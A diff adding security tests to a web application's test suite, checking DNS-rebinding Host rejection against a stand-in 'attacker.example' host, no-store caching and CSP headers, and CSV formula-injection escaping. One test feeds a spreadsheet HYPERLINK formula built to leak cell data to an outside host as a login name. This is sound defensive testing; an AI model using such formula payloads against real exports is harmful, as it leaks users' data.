@@ -8,8 +8,11 @@ import io
 import sqlite3
 import stat
 import tarfile
+import urllib.error
+import urllib.request
 
 import av
+import pytest
 
 from central.audit import AUDIT_FILE
 from central.web.settings import SECRET_FILE, WEB_DB
@@ -34,6 +37,27 @@ def test_nothing_is_served_without_logging_in__ACCESS(site: Site) -> None:
     for page in ("/", site.page, "/audit/", "/fleet/", "/approvals/", "/accounts/"):
         reply = anonymous.get(page)
         assert "/login/" in reply.url and "csrfmiddlewaretoken" in reply.text, page
+    # A request naming a host the server is not known by (DNS rebinding) is refused outright.
+    forged = urllib.request.Request(site.url + "/login/", headers={"Host": "recorder.attacker.example"})
+    with pytest.raises(urllib.error.HTTPError) as refused:
+        urllib.request.urlopen(forged, timeout=10)
+    assert refused.value.code == 400
+
+
+def test_nothing_is_cached_and_only_the_servers_own_scripts_run__ACCESS(site: Site) -> None:
+    supervisor = site.client(name("supervisor"))
+    for url in ("/", site.page, site.page + "play.json", site.page + "seg/1.mp4"):
+        reply = supervisor.get(url)
+        assert reply.status == 200 and reply.headers["Cache-Control"] == "no-store", url
+        assert "script-src" not in reply.headers["Content-Security-Policy"]  # default-src 'self' covers it
+        assert "default-src 'self'" in reply.headers["Content-Security-Policy"]
+
+
+def test_a_name_typed_at_log_in_cannot_become_a_formula_in_the_audit_export__ACCESS(site: Site) -> None:
+    site.client().login('=HYPERLINK("http://x/?"&A1,"x")', "anything")
+    exported = site.client("admin").get("/audit.csv?action=login_failed").text
+    assert "'=HYPERLINK" in exported
+    assert '"=HYPERLINK' not in exported and ",=HYPERLINK" not in exported and "\n=HYPERLINK" not in exported
 
 
 def test_a_viewer_without_approval_gets_403_for_the_playlist_and_every_segment__ACCESS(site: Site) -> None:
